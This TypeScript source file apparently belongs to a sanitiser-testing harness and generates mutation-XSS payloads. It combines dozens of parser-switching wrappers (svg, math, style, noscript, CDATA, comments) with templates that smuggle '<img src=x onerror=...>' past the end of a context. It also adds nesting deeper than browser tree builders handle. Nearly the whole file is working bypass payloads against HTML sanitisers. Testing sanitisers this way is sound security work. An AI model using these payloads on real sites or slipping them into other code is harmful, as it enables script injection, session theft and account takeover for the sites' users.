import type { Attempt } from './vector.ts'

/** Opens a place where parsers change their rules. */
const OUTER = [
  '<svg>',
  '<math>',
  '<svg><style>',
  '<math><style>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<svg><foreignObject><math>',
  '<math><mtext>',
  '<math><mi><table>',
  '<math><mtext><table><mglyph><style>',
  '<math><annotation-xml encoding="text/html">',
  '<math><mtext><mglyph>',
  '<svg></p><style>',
  '<svg></br><style>',
  '<math></p><style>',
  '<form><math><mtext></form><form><mglyph><style>',
  '<svg><script>',
  '<svg><a><svg>',
  '<noscript>',
  '<noembed>',
  '<noframes>',
  '<xmp>',
  '<iframe>',
  '<textarea>',
  '<title>',
  '<style>',
  '<template>',
  '<template><svg>',
  '<select>',
  '<select><option>',
  '<select><template>',
  '<table>',
  '<table><tr>',
  '<table><caption><svg>',
  '<button><a>',
  '<dialog open>',
  '<p><svg>',
  '<listing>',
  '<object>',
  '<audio>',
  '<canvas>',
  '<ruby><rp>',
  '<a><table><a>',
  '<b><p></b>',
  '<!--',
  '<![CDATA[',
  '<svg><![CDATA[',
]
const NAMES = (outer: string) => [...outer.matchAll(/<([a-zA-Z-]+)/g)].map((found) => found[1]!)

/** What is put there: plain; hidden in an attribute behind the end of the place; in a comment; written twice. */
const INNER: ((js: string, names: string[]) => string)[] = [
  (js) => `<img src=x onerror=${js}>`,
  (js, names) => `<p title="</${names.at(-1) ?? 'p'}><img src=x onerror=${js}>">`,
  (js, names) => `<a title="--></${names.join('></') || 'p'}><img src=x onerror=${js}>"></a>`,
  (js) => `<!--</style></title></xmp><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `&lt;img src=x onerror=${js}&gt;<style>&lt;img src=x onerror=${js}&gt;</style>`,
  (js) => `<p><style><!--</style><a id="--><img src=x onerror=${js}>"></a>`,
  (js) => `]]><img src=x onerror=${js}>-->`,
  (js, names) => `<${names[0] ?? 'svg'}><style><img src="</style><img src=x onerror=${js}>">`,
]

export const nestingAttempts: Attempt[] = [
  ...OUTER.flatMap((outer) =>
    INNER.map((inner) => ({ family: 'nesting', html: (js: string) => `${outer}${inner(js, NAMES(outer))}` })),
  ),
  { family: 'nesting', alone: true, html: (js) => `<plaintext><img src=x onerror=${js}>` },
  { family: 'nesting', alone: true, html: (js) => `<noscript><plaintext></noscript><img src=x onerror=${js}>` },
  // Deeper than the sanitiser nests and than the tree builder of a browser goes (512).
  ...[200, 260, 520, 1_100].map(
    (depth): Attempt => ({
      family: 'nesting',
      alone: true,
      html: (js) =>
        `${'<div>'.repeat(depth)}<table><tr><td><svg><style><a title="</style><img src=x onerror=${js}>"></a></svg><img src=x onerror=${js}>`,
    }),
  ),
]
